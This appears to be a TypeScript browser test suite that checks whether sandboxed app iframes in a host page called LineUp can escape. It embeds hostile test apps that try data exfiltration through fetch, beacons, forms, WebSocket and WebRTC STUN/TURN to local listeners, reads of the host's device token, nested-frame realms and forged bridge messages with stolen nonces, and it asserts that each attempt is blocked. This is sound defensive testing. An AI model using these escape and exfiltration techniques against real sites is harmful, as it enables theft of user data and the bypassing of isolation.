/**
 * RELIABILITY B1–B3 in real Chromium, through the real surface host (`mountSurface`) on a page under
 * the host's strict CSP, the way surface-host.browser.test.ts builds it:
 * - B1: no surface frame ever carries `allow-same-origin`; the host cannot read the frame and the app
 *   cannot read `parent.document` (SecurityError).
 * - B2: a hostile app runs an escape corpus (top navigation, popups, forms, fetch/XHR/WebSocket/image/
 *   beacon requests, remote script and style, storage, WebRTC to a STUN and a TURN server of its choosing,
 *   every way to make a nested frame (a fresh realm), preconnect and DNS-prefetch hints, the clipboard,
 *   `parent.postMessage` spoofing); everything is blocked and recorded by the app, and nothing reaches a
 *   local listener: no HTTP request, no TCP connection, no UDP datagram.
 * - B3: valid-looking bridge frames from the top window, from another app's frame (which cannot make a
 *   nested frame to forge from: the frame's prelude refuses it)
 *   and from the frame after it navigated away and back are never accepted: the host's handler sees only
 *   what came through the instance's own port with its nonce.
 */
import { mkdirSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server } from "node:http";
import { createSocket, type Socket } from "node:dgram";
import type { AddressInfo } from "node:net";
import { join, resolve } from "node:path";
import { build } from "esbuild";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FAKE_MEDIA_ARGS, launchPersistentChromium } from "../../../test/support/chromium.js";
import { testSnapshot } from "../../../test/support/bridge-snapshot.js";
import { surfaceFrameHeaders } from "../src/node/serve.js";
import { SCREENSHOTS } from "./support.js";

const HOST_CSP = "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; connect-src 'self'; frame-src 'self'; object-src 'none'; base-uri 'none'";

/** The first frame the host sends (a BridgeHostSnapshot; it crosses into the page as plain JSON). */
const snapshot = (appScope: string, instanceId: string) => testSnapshot({ app_scope: appScope, instance_id: instanceId });

/** Shared by the apps below: keep the port and nonce the host hands over once, and build frames. */
const APP_PRELUDE = `
let port, nonce;
const frame = (o) => Object.assign({ bridge: "lineup.surface", v: 1, nonce }, o);
const forged = (n, height, marker) => [
  { bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: 7001, method: "lifecycle.ready", params: {} },
  { bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: 7002, method: "surface.resize", params: { height } },
  { bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: 7003, method: "session_data.replace", params: { expected_revision: 0, data: { forged: marker } } },
];
const show = (text) => { const p = document.createElement("pre"); p.textContent = text; p.style.cssText = "margin:4px;font:11px monospace;white-space:pre-wrap"; document.body.append(p); };
function onHandover(fn) {
  window.addEventListener("message", function first(e) {
    if (e.source !== window.parent || e.ports.length !== 1) return;
    window.removeEventListener("message", first);
    port = e.ports[0]; nonce = e.data.nonce; port.onmessage = () => {};
    fn();
  });
}`;

/** B3's victim: proves its own port works (resize 222), and says ready only when its parent asks. */
const VICTIM_APP = `<!doctype html><html><body><h3>victim</h3><script>${APP_PRELUDE}
onHandover(() => {
  port.postMessage(frame({ kind: "request", id: 1, method: "surface.resize", params: { height: 222 } }));
  window.addEventListener("message", (e) => {
    if (e.source !== window.parent || !e.data || e.data.type !== "test.go") return;
    port.postMessage(frame({ kind: "request", id: 2, method: "lifecycle.ready", params: {} }));
    show("sent lifecycle.ready on its own port");
  });
  show("handed over; waiting for the parent's go");
});
</script></body></html>`;

/** B3's other app: given the victim's nonce, forges its frames every way an app in a frame can. */
const OTHER_APP = `<!doctype html><html><body><h3>other app</h3><script>${APP_PRELUDE}
onHandover(() => {
  port.postMessage(frame({ kind: "request", id: 1, method: "surface.resize", params: { height: 333 } }));
  const seen = { nestedRan: false };
  window.addEventListener("message", (e) => {
    if (e.data && e.data.type === "nested.ran") seen.nestedRan = true;
    if (e.source !== window.parent || !e.data || e.data.type !== "test.spoof") return;
    const victim = e.data.nonce;
    for (const f of forged(victim, 444, "other-app")) {
      parent.postMessage(f, "*");
      top.postMessage(f, "*");
      const ch = new MessageChannel();
      parent.postMessage(f, "*", [ch.port2]);
      ch.port1.postMessage(f);
      for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage(f, "*");
      port.postMessage(f); // its own port, someone else's nonce
    }
    parent.postMessage({ type: "lineup.surface-frame.loaded" }, "*");
    // A nested frame would forge them too, but the frame's prelude refuses to make one.
    let nestedRefused = "made";
    try {
      const nested = document.createElement("iframe");
      nested.srcdoc = "<script>const f = " + JSON.stringify(forged(victim, 555, "nested")) + ";" +
        "for (const x of f) { top.postMessage(x, '*'); parent.parent.postMessage(x, '*'); }" +
        "parent.parent.postMessage({ type: 'lineup.surface-frame.loaded' }, '*');" +
        "parent.postMessage({ type: 'nested.ran' }, '*');<\\/script>";
      document.body.append(nested);
    } catch (error) {
      nestedRefused = error.name;
    }
    setTimeout(() => {
      port.postMessage(frame({ kind: "request", id: 2, method: "session_data.replace", params: { expected_revision: 0, data: { nestedRan: seen.nestedRan, nestedRefused } } }));
      show("forged the victim's frames; nested frame: " + nestedRefused);
    }, 800);
  });
});
</script></body></html>`;

/** B3's navigating app: proves its port once (resize 150), then navigates its frame away and back. */
const NAV_APP = `<!doctype html><html><body><h3>navigates</h3><script>${APP_PRELUDE}
onHandover(() => {
  port.postMessage(frame({ kind: "request", id: 1, method: "surface.resize", params: { height: 150 } }));
  setTimeout(() => { location.href = "/attacker.html#" + nonce; }, 100);
});
</script></body></html>`;

/** Where NAV_APP's frame goes: forges frames with the old nonce, asks for a new handover, and goes back. */
const ATTACKER_PAGE = `<!doctype html><html><body><script>
const n = location.hash.slice(1);
const f = ${"[" + ["lifecycle.ready", "surface.resize", "session_data.replace"].map((m, i) => `{ bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: ${8001 + i}, method: "${m}", params: ${m === "surface.resize" ? "{ height: 666 }" : m === "session_data.replace" ? '{ expected_revision: 0, data: { forged: "navigated" } }' : "{}"} }`).join(", ") + "]"};
let got = 0;
// What a new handover would look like: anything from the host page, or any port (sibling apps' posts don't count).
window.addEventListener("message", (e) => { if (e.source === parent || e.ports.length > 0) got++; });
for (const x of f) { parent.postMessage(x, "*"); top.postMessage(x, "*"); }
parent.postMessage({ type: "lineup.surface-frame.ready" }, "*");
parent.postMessage({ type: "lineup.surface-frame.loaded" }, "*");
setTimeout(() => { location.href = "/surface-frame.html?back=1&got=" + got; }, 600);
</script></body></html>`;

/** B1/B2: the escape corpus. Every attempt's outcome is recorded and sent through the app's own port. */
const hostileApp = (beacon: string, same: string, udpPort: number): string => `<!doctype html><html><body><h3>hostile app: escape corpus</h3><script>${APP_PRELUDE}
const B = ${JSON.stringify(beacon)}, SAME = ${JSON.stringify(same)}, UDP = ${udpPort};
const report = {}; const violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
const attempt = (name, fn) => { try { const v = fn(); report[name] = v === undefined ? "no error" : String(v); } catch (e) { report[name] = "threw " + e.name; } };
const outcome = (name, run, ms = 1500) => new Promise((done) => {
  const finish = (v) => { if (!(name in report)) report[name] = v; done(); };
  setTimeout(() => finish("no outcome"), ms);
  try { run(finish); } catch (e) { finish("threw " + e.name); }
});
const element = (name, tag, attrs) => outcome(name, (finish) => {
  const el = document.createElement(tag); Object.assign(el, attrs);
  el.onload = () => finish("LOADED"); el.onerror = () => finish("error event");
  document.head.append(el);
});
onHandover(async () => {
  attempt("parent.document", () => parent.document.title);
  attempt("top.document", () => top.document.title);
  attempt("parent.location.href", () => parent.location.href);
  attempt("frameElement", () => String(window.frameElement));
  attempt("top navigation", () => { top.location.href = B + "/nav"; });
  attempt("top navigation (same origin)", () => { top.location.assign(SAME + "/beacon/nav"); });
  attempt("window.open", () => String(window.open(B + "/popup")));
  attempt("form submit", () => {
    const f = document.createElement("form"); f.action = B + "/form"; f.method = "post"; f.target = "_top"; f.hidden = true;
    const i = document.createElement("input"); i.name = "x"; i.value = "secret"; f.append(i); document.body.append(f);
    f.submit(); return "called";
  });
  attempt("form requestSubmit", () => {
    const f = document.createElement("form"); f.action = SAME + "/beacon/form"; f.method = "get"; f.hidden = true;
    document.body.append(f); f.requestSubmit(); return "called";
  });
  attempt("sendBeacon", () => navigator.sendBeacon(B + "/sendbeacon", "x"));
  attempt("localStorage", () => { localStorage.setItem("k", "v"); return "WROTE"; });
  attempt("sessionStorage", () => { sessionStorage.setItem("k", "v"); return "WROTE"; });
  attempt("document.cookie", () => { document.cookie = "k=v"; return "cookie:" + document.cookie; });
  attempt("indexedDB", () => { indexedDB.open("x"); return "OPENED"; });
  // A bridge frame with its own nonce, but through the window instead of its port.
  const spoof = frame({ kind: "request", id: 50, method: "session_data.replace", params: { expected_revision: 0, data: { forged: "window" } } });
  // WebRTC: ICE to a STUN server of the app's choosing, and a TURN Allocate carrying a username it chose.
  const ice = (server) => { const pc = new RTCPeerConnection({ iceServers: [server] }); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o)); return "CONSTRUCTED"; };
  attempt("RTCPeerConnection (STUN)", () => ice({ urls: "stun:127.0.0.1:" + UDP }));
  attempt("RTCPeerConnection (TURN)", () => ice({ urls: "turn:127.0.0.1:" + UDP + "?transport=udp", username: "exfil-username", credential: "x" }));
  attempt("webkitRTCPeerConnection", () => { const pc = new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP }] }); pc.createDataChannel("x"); return "CONSTRUCTED"; });
  attempt("restore RTCPeerConnection", () => { delete window.RTCPeerConnection; Object.defineProperty(window, "RTCPeerConnection", { value: function () {} }); return "REDEFINED"; });
  attempt("RTCPeerConnection after the restore", () => ice({ urls: "stun:127.0.0.1:" + UDP }));
  // A fresh realm has none of the frame's pins: every way to make a nested frame.
  const rtcSrcdoc = "<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:" + UDP + "' }] }).createOffer()<\\/script>";
  const box = () => { const d = document.createElement("div"); document.body.append(d); return d; };
  attempt("nested frame: createElement", () => { const f = document.createElement("iframe"); f.srcdoc = rtcSrcdoc; document.body.append(f); return "APPENDED"; });
  attempt("nested frame: createElementNS", () => { document.createElementNS("http://www.w3.org/1999/xhtml", "embed"); return "CREATED"; });
  attempt("nested frame: innerHTML", () => { box().innerHTML = '<iframe srcdoc="' + rtcSrcdoc.replace(/"/g, "&quot;") + '"></iframe>'; return "SET"; });
  attempt("nested frame: insertAdjacentHTML", () => { box().insertAdjacentHTML("beforeend", "<object data='data:text/html,x'></object>"); return "SET"; });
  attempt("nested frame: document.write", () => { document.write("<iframe></iframe>"); return "WRITTEN"; });
  attempt("nested frame: DOMParser (XHTML, prefixed)", () => { const d = new DOMParser().parseFromString('<r xmlns:h="http://www.w3.org/1999/xhtml"><h:iframe srcdoc="x"/></r>', "application/xml"); box().append(document.importNode(d.documentElement, true)); return "IMPORTED"; });
  attempt("nested frame: closed declarative shadow root", () => { box().setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe></iframe></template></div>'); return "SET"; });
  attempt("nested frame: closed shadow root", () => { const root = box().attachShadow({ mode: "closed" }); root.innerHTML = "<iframe></iframe>"; return "SET"; });
  attempt("frames in the document", () => String(document.querySelectorAll("iframe, frame, object, embed").length + window.length));
  attempt("Worker (blob)", () => { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }))); return "STARTED"; });
  // Connections to an address the app names: preconnect and DNS prefetch hints.
  attempt("link preconnect", () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = B + "/"; document.head.append(l); return "appended"; });
  attempt("link dns-prefetch", () => { const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = B + "/"; document.head.append(l); return "appended"; });
  attempt("link preconnect (markup)", () => { box().innerHTML = '<link rel="preconnect" href="' + B + '/markup">'; return "set"; });
  // The clipboard without the gateway (no user activation here; sandbox-product covers a real click).
  attempt("execCommand copy", () => { const t = document.createElement("textarea"); t.value = "exfil"; document.body.append(t); t.select(); return String(document.execCommand("copy")); });
  attempt("parent.postMessage spoof", () => { parent.postMessage(spoof, "*"); const ch = new MessageChannel(); parent.postMessage(spoof, "*", [ch.port2]); ch.port1.postMessage(spoof); top.postMessage(spoof, "*"); return "posted"; });
  await Promise.all([
    outcome("fetch", (finish) => fetch(B + "/fetch").then(() => finish("RESOLVED"), (e) => finish("rejected " + e.name))),
    outcome("fetch the host's token", (finish) => fetch(SAME + "/").then((r) => r.text()).then((t) => finish("READ " + t), (e) => finish("rejected " + e.name))),
    outcome("XMLHttpRequest", (finish) => { const x = new XMLHttpRequest(); x.open("GET", B + "/xhr"); x.onload = () => finish("LOADED"); x.onerror = () => finish("error event"); x.send(); }),
    outcome("WebSocket", (finish) => { const ws = new WebSocket(B.replace("http:", "ws:") + "/ws"); ws.onopen = () => finish("OPEN"); ws.onerror = () => finish("error event"); }),
    element("image beacon", "img", { src: B + "/img.png" }),
    element("remote script", "script", { src: B + "/remote.js" }),
    element("remote stylesheet", "link", { rel: "stylesheet", href: B + "/remote.css" }),
    // Device capabilities straight from the browser, around the Capability Gateway.
    outcome("clipboard.writeText", (finish) => navigator.clipboard.writeText("x").then(() => finish("WROTE"), (e) => finish("rejected " + e.name))),
    outcome("getUserMedia", (finish) => navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ audio: true }).then(() => finish("GRANTED"), (e) => finish("rejected " + e.name)) : finish("no mediaDevices")),
    outcome("geolocation", (finish) => navigator.geolocation.getCurrentPosition(() => finish("GRANTED"), (e) => finish("error " + e.code))),
    outcome("Notification", (finish) => typeof Notification === "undefined" ? finish("no Notification") : Notification.requestPermission().then((p) => finish(p), (e) => finish("rejected " + e.name))),
    outcome("new Notification", (finish) => { const n = new Notification("from the sandbox"); n.onshow = () => finish("SHOWN"); n.onerror = () => finish("error event"); }),
    outcome("nested iframe (remote)", (finish) => { const f = document.createElement("iframe"); f.src = B + "/frame"; f.style.cssText = "width:120px;height:60px"; document.body.append(f); setTimeout(() => finish("appended"), 700); }),
    // Had any of the RTC attempts got through, its ICE would run now.
    outcome("wait for ICE", (finish) => setTimeout(() => finish("waited"), 1200), 2000),
  ]);
  report["remote script ran"] = String(window.__remoteRan === true);
  port.postMessage(frame({ kind: "request", id: 2, method: "session_data.replace", params: { expected_revision: 0, data: { report, violations } } }));
  show(Object.entries(report).map(([k, v]) => k.padEnd(28) + v).join("\\n") + "\\nCSP violations: " + violations.join(", "));
});
</script></body></html>`;

/** An app whose page holds `markup` after a script that tells the top page it ran. */
const refusedApp = (markup: string): string => `<!doctype html><html><body><script>top.postMessage({ type: "refused-app.ran" }, "*");</script>${markup}</body></html>`;

/** An app that navigates its own frame to the URL `target` evaluates to, once it has its port: a fresh document, if the browser let it. */
const selfNavigatingApp = (target: string): string => `<!doctype html><html><body><script>${APP_PRELUDE}
onHandover(() => { const url = ${target.replace(/<\//g, "<\\/")}; top.postMessage({ type: "self-nav.going", url: url.slice(0, 5) }, "*"); location.href = url; });
</script></body></html>`;

interface SurfaceState {
  calls: { method: string; params: unknown }[];
  refused: string[];
  resizes: number[];
  ready: boolean;
  readyError?: string;
  sandbox: string | null;
  hostCanReadFrame: boolean;
}

let browser: Awaited<ReturnType<typeof launchPersistentChromium>>;
let context: BrowserContext;
let page: Page;
let pageServer: Server;
let beaconServer: Server;
let pageUrl: string;
let beaconUrl: string;
let udp: Socket;
/** Every UDP datagram that reached the test's listener (a STUN binding request, a TURN allocate …). */
const datagrams: Buffer[] = [];
/** Every TCP connection the beacon server accepted: a refused request can still have connected. */
let beaconConnections = 0;
const pageHits: string[] = [];
const beaconHits: string[] = [];
const popups: string[] = [];
const pageErrors: string[] = [];
const consoleLines: string[] = [];

const call = <T>(fn: string, ...args: unknown[]): Promise<T> =>
  page.evaluate(([name, a]) => (window as unknown as { __escape: Record<string, (...x: unknown[]) => unknown> }).__escape[name as string]!(...(a as unknown[])), [fn, args] as const) as Promise<T>;
const state = (id: string): Promise<SurfaceState> => call<SurfaceState>("state", id);
const record = (hits: string[]) => (req: IncomingMessage) => hits.push(`${req.method ?? "?"} ${req.url ?? "/"}`);
/** Requests the page server saw that were not part of loading the page and its frames. */
const unexpectedPageHits = (): string[] => pageHits.filter((hit) => !/^GET \/(|harness\.js|surface-frame\.html(\?back=1&got=\d+)?|attacker\.html|favicon\.ico)$/.test(hit));

beforeAll(async () => {
  const harness = (
    await build({ entryPoints: [resolve(import.meta.dirname, "sandbox-escape.entry.ts")], bundle: true, write: false, format: "esm", platform: "browser", target: "es2022", conditions: ["source"] })
  ).outputFiles[0]!.text;
  const frameHtml = await readFile(resolve(import.meta.dirname, "../public/surface-frame.html"), "utf8");
  udp = createSocket("udp4");
  udp.on("message", (message) => datagrams.push(message));
  await new Promise<void>((r) => udp.bind(0, "127.0.0.1", r));
  beaconServer = createServer((req, res) => {
    record(beaconHits)(req);
    res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" }).end("window.__remoteRan = true;");
  });
  beaconServer.on("connection", () => beaconConnections++);
  beaconServer.on("upgrade", (req, socket) => {
    record(beaconHits)(req);
    socket.destroy();
  });
  pageServer = createServer((req, res) => {
    record(pageHits)(req);
    const path = (req.url ?? "/").split("?")[0];
    if (path === "/harness.js") return void res.writeHead(200, { "content-type": "text/javascript" }).end(harness);
    // Served as the host's own server serves it: the frame's CSP, permissions and DNS-prefetch headers.
    if (path === "/surface-frame.html") return void res.writeHead(200, { "content-type": "text/html", ...surfaceFrameHeaders(frameHtml) }).end(frameHtml);
    if (path === "/attacker.html") return void res.writeHead(200, { "content-type": "text/html" }).end(ATTACKER_PAGE);
    if (path !== "/") return void res.writeHead(404).end();
    res.writeHead(200, { "content-type": "text/html", "content-security-policy": HOST_CSP });
    // Like the host's page, this one carries the device token in its config (site.ts).
    res.end('<!doctype html><html><head><meta charset="utf-8"><title>LineUp host</title><script type="application/json" id="lineup-config">{"device_token":"secret"}</script></head><body style="margin:0;font:13px sans-serif"><script type="module" src="/harness.js"></script></body></html>');
  });
  await new Promise<void>((r) => pageServer.listen(0, "127.0.0.1", r));
  await new Promise<void>((r) => beaconServer.listen(0, "127.0.0.1", r));
  pageUrl = `http://127.0.0.1:${(pageServer.address() as AddressInfo).port}/`;
  beaconUrl = `http://127.0.0.1:${(beaconServer.address() as AddressInfo).port}`;
  // A fake microphone that is always allowed, and every permission granted to the host's own origin: the
  // sandboxed apps must still be refused, since only the Capability Gateway may use them for an app.
  // A profile on disk, as a person's browser has: Chromium preconnects there and not in an in-memory one.
  browser = await launchPersistentChromium(FAKE_MEDIA_ARGS);
  context = browser.context;
  await context.grantPermissions(["clipboard-read", "clipboard-write", "geolocation", "microphone", "notifications"], { origin: pageUrl.slice(0, -1) });
  page = context.pages()[0] ?? (await context.newPage());
  await page.setViewportSize({ width: 900, height: 1000 });
  context.on("page", (p) => popups.push(p.url()));
  page.on("pageerror", (e) => pageErrors.push(e.message));
  page.on("console", (m) => consoleLines.push(m.text()));
  await page.goto(pageUrl);
  await page.waitForFunction(() => "__escape" in window);
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await new Promise<void>((r) => (pageServer ? pageServer.close(() => r()) : r()));
  await new Promise<void>((r) => (beaconServer ? beaconServer.close(() => r()) : r()));
  udp?.close();
});

describe("RELIABILITY B2: escape corpus (Chromium, host CSP)", () => {
  it("a hostile app's every escape is blocked and recorded, and no request leaves the page", async () => {
    await call("mount", "hostile", hostileApp(beaconUrl, pageUrl.slice(0, -1), (udp.address()).port), snapshot("hostile", "hostile-1"), 900);
    await expect.poll(async () => (await state("hostile")).calls.length, { timeout: 15_000 }).toBeGreaterThan(0);
    // Let anything that was going to leak late (a navigation, a popup, a beacon) happen.
    await page.waitForTimeout(500);
    const hostile = await state("hostile");
    // The control: the host's own origin may show a notification in this browser.
    expect(await page.evaluate(() => new Promise((r) => { const n = new Notification("host"); n.onshow = () => r("SHOWN"); n.onerror = () => r("error event"); }))).toBe("SHOWN");
    // Only the app's own report through its own port reached the handler: the window spoofs did not.
    expect(hostile.calls.map((c) => c.method)).toEqual(["session_data.replace"]);
    const { report, violations } = (hostile.calls[0]!.params as { data: { report: Record<string, string>; violations: string[] } }).data;
    expect(report).toEqual({
      "parent.document": "threw SecurityError",
      "top.document": "threw SecurityError",
      "parent.location.href": "threw SecurityError",
      frameElement: "null",
      "top navigation": expect.not.stringMatching(/^no error$/) as unknown as string,
      "top navigation (same origin)": expect.not.stringMatching(/^no error$/) as unknown as string,
      "window.open": "null",
      // The calls return; Chromium blocks the submission (sandbox without allow-forms), the app lives on.
      "form submit": "called",
      "form requestSubmit": "called",
      // sendBeacon only queues (true); the frame's connect-src refuses the request itself, and no hit arrives.
      sendBeacon: "true",
      localStorage: "threw SecurityError",
      sessionStorage: "threw SecurityError",
      "document.cookie": "threw SecurityError",
      indexedDB: "threw SecurityError",
      "parent.postMessage spoof": "posted",
      fetch: "rejected TypeError",
      "fetch the host's token": "rejected TypeError",
      XMLHttpRequest: "error event",
      WebSocket: "error event",
      "image beacon": "error event",
      // Trusted Types: a script URL is refused before any load (the frame defines no policy for one).
      "remote script": "threw TypeError",
      // A stylesheet link is a link element: refused before it is made.
      "remote stylesheet": "threw NotAllowedError",
      "clipboard.writeText": "rejected NotAllowedError",
      getUserMedia: "rejected SecurityError",
      geolocation: "error 1", // PERMISSION_DENIED
      // Chromium answers the host origin's permission state to the frame, but will not show its notification.
      Notification: "granted",
      "new Notification": "error event",
      // The frame's prelude: no peer connection, however asked, and no way to put one back.
      "RTCPeerConnection (STUN)": "threw NotAllowedError",
      "RTCPeerConnection (TURN)": "threw NotAllowedError",
      webkitRTCPeerConnection: expect.stringMatching(/^threw (NotAllowedError|ReferenceError)$/) as unknown as string,
      "restore RTCPeerConnection": "threw TypeError",
      "RTCPeerConnection after the restore": "threw NotAllowedError",
      // No nested frame, so no fresh realm without those pins: refused where elements are made, and in
      // every HTML string (Trusted Types).
      "nested frame: createElement": "threw NotAllowedError",
      "nested frame: createElementNS": "threw NotAllowedError",
      "nested frame: innerHTML": "threw TypeError",
      "nested frame: insertAdjacentHTML": "threw TypeError",
      "nested frame: document.write": "threw TypeError",
      "nested frame: DOMParser (XHTML, prefixed)": "threw TypeError",
      "nested frame: closed declarative shadow root": "threw TypeError",
      "nested frame: closed shadow root": "threw TypeError",
      "frames in the document": "0",
      "Worker (blob)": "threw TypeError",
      // Link elements are refused where elements are made: Chromium preconnects (with a profile on disk)
      // and no CSP directive governs it.
      "link preconnect": "threw NotAllowedError",
      "link dns-prefetch": "threw NotAllowedError",
      "link preconnect (markup)": "threw TypeError",
      "execCommand copy": "false",
      "nested iframe (remote)": "threw NotAllowedError",
      "wait for ICE": "waited",
      "remote script ran": "false",
    });
    // Not one datagram (STUN, TURN) and not one connection (preconnect, prefetch, frames) left the page.
    expect(datagrams.map((d) => d.toString("latin1"))).toEqual([]);
    expect(beaconConnections).toBe(0);
    // The frame's CSP recorded each blocked load.
    for (const directive of ["connect-src", "img-src", "require-trusted-types-for"]) expect(violations).toContain(directive);
    // Nothing reached either server; the page did not move and no page opened.
    expect(beaconHits).toEqual([]);
    expect(unexpectedPageHits()).toEqual([]);
    expect(page.url()).toBe(pageUrl);
    expect(popups).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    expect(await page.title()).toBe("LineUp host");
    expect(hostile.refused).toEqual([]);
    // Chromium says why the forms went nowhere.
    expect(consoleLines.filter((line) => /Blocked form submission/.test(line) && /allow-forms/.test(line))).toHaveLength(2);
  });
});

describe("issue 27: no fresh realm for an app (Chromium)", () => {
  it("an app page holding a nested frame or a declarative shadow root is refused before any of its code runs", async () => {
    await call("mount", "with-frame", refusedApp('<iframe srcdoc="<b>x</b>"></iframe>'), snapshot("with-frame", "with-frame-1"), 80);
    await call("mount", "with-object", refusedApp('<template><p><object data="data:text/html,x"></object></p></template>'), snapshot("with-object", "with-object-1"), 80);
    await call("mount", "with-shadow", refusedApp('<div><template shadowrootmode="closed"><p>hidden</p></template></div>'), snapshot("with-shadow", "with-shadow-1"), 80);
    await expect.poll(async () => (await state("with-frame")).readyError, { timeout: 10_000 }).toBe("with-frame did not start: its page contains a nested frame (iframe, frame, object or embed), which LineUp apps cannot have");
    await expect.poll(async () => (await state("with-object")).readyError, { timeout: 10_000 }).toMatch(/^with-object did not start: its page contains a nested frame/);
    await expect.poll(async () => (await state("with-shadow")).readyError, { timeout: 10_000 }).toBe("with-shadow did not start: its page uses a declarative shadow root, which LineUp apps cannot have");
    // Not one line of those apps ran.
    expect((await call<{ type?: string }[]>("topMessages")).filter((m) => m.type === "refused-app.ran")).toEqual([]);
  });

  it("a frame that navigates itself to a data:, blob: or javascript: page gets no realm without the pins: not one datagram", async () => {
    const before = datagrams.length;
    const rtc = `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp.address().port}" }] }).createOffer()`;
    const script = `<script>${rtc}</script>`;
    await call("mount", "to-data", selfNavigatingApp(JSON.stringify(`data:text/html,${script}`)), snapshot("to-data", "to-data-1"), 80);
    await call("mount", "to-blob", selfNavigatingApp(`URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: "text/html" }))`), snapshot("to-blob", "to-blob-1"), 80);
    await call("mount", "to-js", selfNavigatingApp(JSON.stringify(`javascript:${rtc}`)), snapshot("to-js", "to-js-1"), 80);
    // Each app did navigate; the host page's frame-src admits only its own pages, and a javascript: URL
    // runs in the app's own, pinned realm.
    await expect.poll(async () => (await call<{ type?: string; url?: string }[]>("topMessages")).filter((m) => m.type === "self-nav.going").map((m) => m.url).sort(), { timeout: 10_000 }).toEqual(["blob:", "data:", "javas"]);
    await expect.poll(() => consoleLines.filter((line) => /^Framing '' violates the following Content Security Policy directive: "frame-src 'self'"/.test(line)).length, { timeout: 10_000 }).toBe(2);
    // Time for ICE, had any peer connection been made.
    await page.waitForTimeout(1_500);
    expect(datagrams.slice(before)).toEqual([]);
  });
});

describe("RELIABILITY B1: sandbox conformance (Chromium)", () => {
  it("no surface frame ever carries allow-same-origin; the host cannot read the frame, nor the app the host", async () => {
    const hostile = await state("hostile");
    expect(hostile.sandbox).toBe("allow-scripts");
    expect(hostile.hostCanReadFrame).toBe(false);
    const report = (hostile.calls[0]!.params as { data: { report: Record<string, string> } }).data.report;
    expect(report["parent.document"]).toBe("threw SecurityError");
  });
});

describe("RELIABILITY B3: caller authentication (Chromium)", () => {
  it("mounts a victim that uses only its own port, and another app and a navigating app beside it", async () => {
    await call("mount", "victim", VICTIM_APP, snapshot("victim", "victim-1"));
    await call("mount", "other", OTHER_APP, snapshot("other", "other-1"));
    await call("mount", "nav", NAV_APP, snapshot("nav", "nav-1"));
    // The control: each app's own port with its nonce works.
    await expect.poll(async () => (await state("victim")).resizes, { timeout: 10_000 }).toEqual([222]);
    await expect.poll(async () => (await state("other")).resizes, { timeout: 10_000 }).toEqual([333]);
    await expect.poll(async () => (await state("nav")).resizes, { timeout: 10_000 }).toEqual([150]);
  });

  it("frames forged from the top window with the victim's real nonce are never accepted", async () => {
    await call("forgeFromTop", "victim", 777);
    await page.waitForTimeout(300);
    const victim = await state("victim");
    expect(victim).toMatchObject({ calls: [], resizes: [222], ready: false, refused: [] });
  });

  it("frames forged by another app's frame and by a frame nested in it are never accepted", async () => {
    const victimNonce = await call<string>("nonce", "victim");
    await call("tellApp", "other", { type: "test.spoof", nonce: victimNonce });
    await expect.poll(async () => (await state("other")).calls.length, { timeout: 10_000 }).toBe(1);
    const other = await state("other");
    // The nested frame could not even be made (the frame's prelude), so it forged nothing.
    expect(other.calls).toEqual([{ method: "session_data.replace", params: { expected_revision: 0, data: { nestedRan: false, nestedRefused: "NotAllowedError" } } }]);
    // Through its own port, the victim's nonce is refused as a bad nonce.
    expect(other.refused.filter((code) => code === "bridge_bad_nonce")).toHaveLength(3);
    expect(other.resizes).toEqual([333]);
    const victim = await state("victim");
    expect(victim).toMatchObject({ calls: [], resizes: [222], ready: false, refused: [] });
  });

  it("a frame that navigated away and back gets no new port, and its forgeries are never accepted", async () => {
    await expect.poll(() => pageHits.find((hit) => hit.startsWith("GET /surface-frame.html?back=1")), { timeout: 10_000 }).toBeDefined();
    await page.waitForTimeout(300);
    // The attacker page in the frame received nothing: no snapshot, no port, no app HTML.
    expect(pageHits.filter((hit) => hit.startsWith("GET /surface-frame.html?back=1"))).toEqual(["GET /surface-frame.html?back=1&got=0"]);
    const nav = await state("nav");
    expect(nav).toMatchObject({ calls: [], resizes: [150], ready: false, refused: [] });
    const victim = await state("victim");
    expect(victim).toMatchObject({ calls: [], resizes: [222], ready: false, refused: [] });
  });

  it("only the instance's own port with its nonce counts: the victim's real ready is accepted", async () => {
    await call("tellApp", "victim", { type: "test.go" });
    await expect.poll(async () => (await state("victim")).ready, { timeout: 5_000 }).toBe(true);
    expect((await state("victim")).calls).toEqual([]);
    // The top page itself never acted on any forged frame either.
    expect(page.url()).toBe(pageUrl);
    expect(beaconHits).toEqual([]);
    expect(unexpectedPageHits()).toEqual([]);
  });

  it("every frame the page ever had was sandboxed allow-scripts only (B1), and the page saw no errors", async () => {
    const seen = await call<string[]>("sandboxSeen");
    expect(seen.length).toBeGreaterThanOrEqual(4);
    for (const value of seen) expect(value).toBe("allow-scripts");
    const tokens = await call<string[]>("sandboxTokens");
    expect(tokens.length).toBeGreaterThanOrEqual(4);
    expect(new Set(tokens)).toEqual(new Set(["allow-scripts"]));
    expect(pageErrors).toEqual([]);
    mkdirSync(SCREENSHOTS, { recursive: true });
    await page.screenshot({ path: join(SCREENSHOTS, "20-sandbox-escape.png"), fullPage: true });
  });
});
